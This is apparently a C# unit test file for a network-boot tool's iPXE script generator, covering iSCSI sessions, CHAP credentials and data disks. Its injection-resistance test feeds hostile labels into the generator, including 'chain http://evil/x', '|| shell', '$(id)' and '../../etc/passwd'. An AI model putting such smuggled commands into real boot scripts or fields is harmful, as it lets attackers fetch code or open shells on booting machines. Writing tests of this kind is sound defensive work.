using GGnet.Core.Boot;
using GGnet.Core.Domain;
using GGnet.Core.Images;
using GGnet.Tests.Support;

namespace GGnet.Tests.Core.Boot;

public sealed class IpxeScriptsTests
{
    private const string Folder = "Core/Boot";

    [Fact]
    public void Generic_MatchesGolden() =>
        Golden.Matches(Folder, "boot.ipxe", IpxeScripts.Generic(BootSamples.Network()));

    [Fact]
    public void Generic_ChainsHttpThenTftpWithGrowingPauses_ThenExitsToLocalDisk()
    {
        var script = IpxeScripts.Generic(BootSamples.Network());

        Assert.StartsWith("#!ipxe\n", script, StringComparison.Ordinal);
        Assert.Contains("set ggnet-http http://10.99.0.1:5000/boot/${mac:hexhyp}.ipxe?platform=${platform:uristring}&arch=${buildarch:uristring}", script, StringComparison.Ordinal);
        Assert.Contains("set ggnet-tftp tftp://10.99.0.1/machines/${mac:hexhyp}.ipxe", script, StringComparison.Ordinal);
        Assert.Equal(["sleep 2", "sleep 4", "sleep 8", "sleep 16", "sleep 5"], Lines(script).Where(l => l.StartsWith("sleep", StringComparison.Ordinal)));
        Assert.Equal("exit 1", Lines(script)[^1]);
    }

    [Fact]
    public void SessionOnLio_NamesLun0_MatchesGolden() =>
        Golden.Matches(Folder, "session-lio.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait,
            BootSamples.Target(42, lun: GGnet.Infrastructure.Iscsi.Lio.LioBatch.DiskLun)), BootSamples.Network()));

    [Fact]
    public void Session_MatchesGolden() =>
        Golden.Matches(Folder, "session.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42)), BootSamples.Network()));

    [Fact]
    public void SessionWithChap_MatchesGolden() =>
        Golden.Matches(Folder, "session-chap.ipxe", IpxeScripts.ForPc(
            new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42, chap: new ChapCredentials("pc-01", "s3cretS3cret"))),
            BootSamples.Network()));

    [Fact]
    public void SessionWithMutualChap_MatchesGolden() =>
        Golden.Matches(Folder, "session-chap-mutual.ipxe", IpxeScripts.ForPc(
            new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait,
                BootSamples.Target(42, chap: new ChapCredentials("pc-01", "s3cretS3cret", "pc-01-target", "t4rgetS3cret"))),
            BootSamples.Network()));

    [Fact]
    public void SessionWithChap_WithoutTheSecrets_NeverAttaches_AndAsksOverHttp()
    {
        var script = IpxeScripts.ForPc(
            new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01", transport: ScriptTransport.Tftp), NoSessionAction.Wait,
                BootSamples.Target(42) with { ChapRequired = true }),
            BootSamples.Network());

        Golden.Matches(Folder, "session-chap-withheld.ipxe", script);
        Assert.DoesNotContain("sanboot", script, StringComparison.Ordinal);
        Assert.DoesNotContain("password", script, StringComparison.Ordinal);
        Assert.Contains("chain --replace --autofree http://10.99.0.1:5000/boot/${mac:hexhyp}.ipxe ||", script, StringComparison.Ordinal);
    }

    [Fact]
    public void Install_MatchesGolden() =>
        Golden.Matches(Folder, "session-install.ipxe", InstallScript());

    [Fact]
    public void Install_HooksTheSessionsDisk_ThenBootsTheIsoFromTheNextLunOfTheSameTarget_AndAFailureOfEitherAsksGGnetAgain()
    {
        var lines = Lines(InstallScript()).ToList();
        var hook = lines.IndexOf("sanhook --drive 0x80 iscsi:10.99.0.1:::1:iqn.2024-01.net.ggnet:session.42 || goto no-disk");
        var boot = lines.IndexOf("sanboot --drive 0x81 --no-describe iscsi:10.99.0.1:::2:iqn.2024-01.net.ggnet:session.42 || set ggnet-error ${errno}");

        Assert.True(hook >= 0 && boot > hook, "the disk is hooked before the ISO boots");
        Assert.Contains("sanunhook --drive 0x80 ||", lines);
        Assert.Equal(2, lines.Count(l => l == "chain --replace --autofree http://10.99.0.1:5000/boot/${mac:hexhyp}.ipxe?attach-error=${ggnet-error} ||"));
        Assert.DoesNotContain(lines, l => l.StartsWith("sanboot iscsi:", StringComparison.Ordinal));
    }

    [Fact]
    public void Install_OnLio_BootsTheIsoFromLun1_AfterTheDiskOnLun0()
    {
        var script = InstallScript(diskLun: GGnet.Infrastructure.Iscsi.Lio.LioBatch.DiskLun);

        Assert.Contains("sanhook --drive 0x80 iscsi:10.99.0.1:::0:iqn.2024-01.net.ggnet:session.42 ", script, StringComparison.Ordinal);
        Assert.Contains("sanboot --drive 0x81 --no-describe iscsi:10.99.0.1:::1:iqn.2024-01.net.ggnet:session.42 ", script, StringComparison.Ordinal);
    }

    private static string InstallScript(int diskLun = 1) => IpxeScripts.ForPc(
        new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait,
            BootSamples.Target(42, lun: diskLun) with { InstallMediumLun = InstallMedia.LunAfter(diskLun) }),
        BootSamples.Network());

    [Fact]
    public void Session_AFailedAttach_IsReportedBackWithIpxesErrorNumber()
    {
        var script = SessionScript("win11 v3");

        Assert.Contains("|| set ggnet-error ${errno}", script, StringComparison.Ordinal);
        Assert.Contains("chain --replace --autofree http://10.99.0.1:5000/boot/${mac:hexhyp}.ipxe?attach-error=${ggnet-error} ||", script, StringComparison.Ordinal);
    }

    [Fact]
    public void SessionWithDataDisks_MatchesGolden() =>
        Golden.Matches(Folder, "session-data-disks.ipxe", DataDisksScript());

    [Fact]
    public void SessionWithDataDisks_HooksEachUndescribedOnItsOwnDrive_BeforeBootingTheSystemDisk_AndUnhooksThemWhenAnAttachFails()
    {
        var lines = Lines(DataDisksScript()).ToList();
        var first = lines.IndexOf("sanhook --drive 0x81 --no-describe iscsi:10.99.0.1:::2:iqn.2024-01.net.ggnet:session.42 || goto no-data-disk");
        var second = lines.IndexOf("sanhook --drive 0x82 --no-describe iscsi:10.99.0.1:::3:iqn.2024-01.net.ggnet:session.42 || goto no-data-disk");
        var boot = lines.IndexOf("sanboot iscsi:10.99.0.1:::1:iqn.2024-01.net.ggnet:session.42 || set ggnet-error ${errno}");

        Assert.True(first >= 0 && second > first && boot > second, "the data disks are hooked, in order, before the system disk boots");
        Assert.Equal(2, lines.Count(l => l == "sanunhook --drive 0x81 ||"));
        Assert.Equal(2, lines.Count(l => l == "sanunhook --drive 0x82 ||"));
        Assert.Contains(":no-data-disk", lines);
        Assert.Equal(2, lines.Count(l => l == "chain --replace --autofree http://10.99.0.1:5000/boot/${mac:hexhyp}.ipxe?attach-error=${ggnet-error} ||"));
    }

    [Fact]
    public void SessionWithoutDataDisks_HooksNothing_AndHasNoDataDiskLabel()
    {
        var script = IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42)),
            BootSamples.Network());

        Assert.DoesNotContain("sanhook", script, StringComparison.Ordinal);
        Assert.DoesNotContain("no-data-disk", script, StringComparison.Ordinal);
    }

    [Fact]
    public void UpdatingADataImage_HooksTheSessionsOwnDisk_AndBootsTheSystemCopyOnTheNextLun()
    {
        var lines = Lines(IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait,
            BootSamples.Target(42) with { DataDisks = 1, BootsFromCopy = true }), BootSamples.Network())).ToList();
        var hook = lines.IndexOf("sanhook --drive 0x81 --no-describe iscsi:10.99.0.1:::1:iqn.2024-01.net.ggnet:session.42 || goto no-data-disk");
        var boot = lines.IndexOf("sanboot iscsi:10.99.0.1:::2:iqn.2024-01.net.ggnet:session.42 || set ggnet-error ${errno}");

        Assert.True(hook >= 0 && boot > hook, string.Join('\n', lines));
        Assert.Single(lines, l => l.StartsWith("sanhook", StringComparison.Ordinal));
    }

    private static string DataDisksScript() => IpxeScripts.ForPc(
        new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42) with { DataDisks = 2 }),
        BootSamples.Network());

    [Fact]
    public void NoSession_Wait_MatchesGolden() =>
        Golden.Matches(Folder, "waiting.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, null), BootSamples.Network()));

    [Fact]
    public void NoSession_WaitOverTftpOnly_MatchesGolden() =>
        Golden.Matches(Folder, "waiting-tftp.ipxe", IpxeScripts.ForPc(
            new(MacAddress.Parse("52:54:00:00:00:03"), BootSamples.Machine(3, "old-nic", "52:54:00:00:00:03", transport: ScriptTransport.Tftp), NoSessionAction.Wait, null), BootSamples.Network()));

    [Fact]
    public void NoSession_LocalDisk_MatchesGolden() =>
        Golden.Matches(Folder, "local-disk.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01", noSession: NoSessionAction.LocalDisk), NoSessionAction.LocalDisk, null), BootSamples.Network()));

    [Fact]
    public void Unknown_MatchesGolden() =>
        Golden.Matches(Folder, "unknown.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:aa:bb:cc"), null, NoSessionAction.Wait, null), BootSamples.Network()));

    [Fact]
    public void Disabled_ExitsToLocalDiskEvenWithASession()
    {
        var script = IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01", enabled: false), NoSessionAction.Wait, BootSamples.Target(42)), BootSamples.Network());

        Assert.DoesNotContain("sanboot", script, StringComparison.Ordinal);
        Assert.Contains("is disabled in GGnet", script, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("win\"11\nchain http://evil/x")]
    [InlineData("${root-path} || shell")]
    [InlineData("img; reboot && :attach")]
    [InlineData("{}{}$(id)`id`")]
    [InlineData("\0\r\n#!ipxe\nshell")]
    [InlineData("ⅰmage ｗin11 ../../etc/passwd")]
    public void Session_HostileImageLabel_NeverChangesTheScriptsStructure(string label)
    {
        var benign = SessionScript("win11 v3");

        var hostile = SessionScript(label);

        Assert.Equal(Lines(benign).Length, Lines(hostile).Length);
        Assert.Equal(Lines(benign).Select(FirstWord), Lines(hostile).Select(FirstWord));
        Assert.DoesNotContain("${root-path}", hostile, StringComparison.Ordinal);
        Assert.DoesNotContain(Lines(hostile).Where(l => !l.StartsWith("echo", StringComparison.Ordinal)),
            l => l.Contains("evil", StringComparison.Ordinal) || l.Contains("shell", StringComparison.Ordinal) || l.Contains("reboot", StringComparison.Ordinal));
    }

    [Fact]
    public void Session_UnsafeChapSecret_IsRefused()
    {
        Assert.Throws<ArgumentException>(() => IpxeScripts.ForPc(
            new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42, chap: new ChapCredentials("u", "a b\nshell"))),
            BootSamples.Network()));
    }

    [Fact]
    public void ScriptForOnePc_HoldsNoOtherPcsData()
    {
        var network = BootSamples.Network();
        var other = BootSamples.Machine(2, "secret-pc", "52:54:00:00:00:02");

        var script = IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42)), network);

        Assert.DoesNotContain(other.Name.Value, script, StringComparison.Ordinal);
        Assert.DoesNotContain(other.MacAddress.Value, script, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("a\"b", "a?b")]
    [InlineData("${x}", "??x?")]
    [InlineData("win11 v3 (2026-11)", "win11 v3 (2026-11)")]
    public void IpxeTextSafe_KeepsPlainTextAndMasksTheRest(string text, string expected)
    {
        Assert.Equal(expected, IpxeText.Safe(text));
    }

    [Fact]
    public void IpxeTextSafe_BoundsLength()
    {
        Assert.Equal(IpxeText.MaxLength, IpxeText.Safe(new string('a', 10_000)).Length);
    }

    private static string SessionScript(string label) =>
        IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42, label)), BootSamples.Network());

    private static string[] Lines(string script) => script.Split('\n', StringSplitOptions.RemoveEmptyEntries);

    private static string FirstWord(string line) => line.Split(' ')[0];
}
